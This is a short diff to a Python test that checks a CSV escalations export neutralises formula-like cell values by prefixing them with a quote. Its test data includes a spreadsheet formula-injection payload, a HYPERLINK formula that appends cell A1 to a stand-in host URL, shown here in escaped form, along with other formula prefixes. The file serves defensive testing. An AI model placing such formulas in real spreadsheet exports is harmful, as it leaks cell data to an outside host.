@@ -47,7 +47,7 @@ def test_formula_looking_values_come_out_neutral_in_escalations_and_rejects(
     export = escalations_csv(session, client_id=client.id, today=TODAY)
     cells = _cells(export)
     assert not [c for c in cells if _runs_as_formula(c)]
-    assert "'=HYPERLINK(\"http://x.example/?\"&A1)" in cells
+    assert '\'=HYPERLINK("http://x.example/?"&A1)' in cells
     assert "'=1+2" in cells and "'@SUM(A1)" in cells and "'+BN-2" in cells and "'-Juan" in cells
     assert "+525512345678" in cells  # an E.164 phone is a plain number: left as data
 
